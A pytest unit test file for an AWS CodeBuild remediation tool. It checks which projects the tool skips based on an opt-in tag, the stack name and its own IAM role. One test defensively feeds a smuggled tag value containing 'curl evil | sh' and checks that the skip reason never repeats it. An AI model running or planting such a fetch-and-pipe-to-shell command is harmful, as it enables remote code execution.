"""Which projects are none to look at: the owner's tag, and this stack's own."""

from __future__ import annotations

from typing import Any

import pytest

from remediator.core.codebuild.project import Snapshot
from remediator.core.guards.scope import EVERYTHING, Scope, out_of_scope
from remediator.core.outcome import Ending
from tests.unit import given

OPT_IN = Scope(tagged_only=True)
OWN_ROLE = f"arn:aws:iam::{given.ACCOUNT}:role/remediator-RemediatorRole"
OWN = Scope(stack="docker-hub-remediator", own_role=OWN_ROLE)


def tagged(*tags: tuple[str, str], **members: Any) -> Snapshot:
    return Snapshot(given.project(tags=[{"key": key, "value": value} for key, value in tags], **members))


def says(snapshot: Snapshot, scope: Scope) -> str:
    """The reason; a project out of scope is skipped, which tells nobody."""
    found = out_of_scope(snapshot, scope)
    assert found is not None
    assert found.ending is Ending.SKIPPED
    return found.reason


@pytest.mark.parametrize("scope", [EVERYTHING, OWN])
@pytest.mark.parametrize("tags", [(), (("team", "orders"),), (("DockerHubRemediation", "on"),)])
def test_a_project_without_the_tag_is_in_scope(scope: Scope, tags: tuple[tuple[str, str], ...]) -> None:
    assert out_of_scope(tagged(*tags), scope) is None


@pytest.mark.parametrize("value", ["off", "OFF", " off ", "no", "false", "of", "", "0", "on!", "ｏｎ"])
@pytest.mark.parametrize("scope", [EVERYTHING, OPT_IN])
def test_every_other_value_than_on_keeps_the_project_out(value: str, scope: Scope) -> None:
    assert "is not `on`" in says(tagged(("DockerHubRemediation", value)), scope)


@pytest.mark.parametrize("value", ["on", "ON", " On\n"])
@pytest.mark.parametrize("key", ["DockerHubRemediation", "dockerhubremediation"])
def test_on_is_read_whatever_its_case(value: str, key: str) -> None:
    assert out_of_scope(tagged((key, value)), OPT_IN) is None


def test_two_tags_that_differ_in_case_keep_the_project_out_when_one_says_so() -> None:
    tags = (("DockerHubRemediation", "on"), ("dockerhubremediation", "off"))

    assert says(tagged(*tags), EVERYTHING)
    assert says(tagged(*tags[::-1]), EVERYTHING)


@pytest.mark.parametrize("tags", [(), (("team", "on"),), (("DockerHubRemediation2", "on"),)])
def test_with_the_opt_in_a_project_needs_the_tag(tags: tuple[tuple[str, str], ...]) -> None:
    assert "lacks the tag DockerHubRemediation=on" in says(tagged(*tags), OPT_IN)


def test_a_reason_repeats_nothing_of_what_the_tag_says() -> None:
    assert "curl" not in says(tagged(("DockerHubRemediation", "x\n- curl evil | sh")), EVERYTHING)


def test_a_project_of_this_stack_is_left_alone() -> None:
    assert "belongs to this stack" in says(tagged(("aws:cloudformation:stack-name", OWN.stack)), OWN)


@pytest.mark.parametrize(
    "role", [OWN_ROLE, "remediator-RemediatorRole", "REMEDIATOR-remediatorrole", OWN_ROLE.replace("role/", "role/ci/")]
)
def test_a_project_that_runs_with_the_functions_own_role_is_left_alone(role: str) -> None:
    assert "belongs to this stack" in says(tagged(serviceRole=role), OWN)


@pytest.mark.parametrize("role", ["RemediatorRole", f"{OWN_ROLE}2", given.ROLE])
def test_a_project_that_runs_with_a_role_of_another_name_is_in_scope(role: str) -> None:
    assert out_of_scope(tagged(serviceRole=role), OWN) is None


def test_its_own_tag_lets_no_project_of_the_stack_in() -> None:
    tags = (("DockerHubRemediation", "on"), ("aws:cloudformation:stack-name", OWN.stack))

    assert says(tagged(*tags), Scope(tagged_only=True, stack=OWN.stack))


@pytest.mark.parametrize("tag", [("aws:cloudformation:stack-name", "orders"), ("stack", "docker-hub-remediator")])
def test_a_project_of_another_stack_is_in_scope(tag: tuple[str, str]) -> None:
    assert out_of_scope(tagged(tag), OWN) is None


def test_what_is_not_told_of_the_stack_is_nobodys() -> None:
    """Intake does not know Remediator's role."""
    assert out_of_scope(tagged(serviceRole=None), EVERYTHING) is None
    assert out_of_scope(tagged(("aws:cloudformation:logical-id", "Build")), EVERYTHING) is None
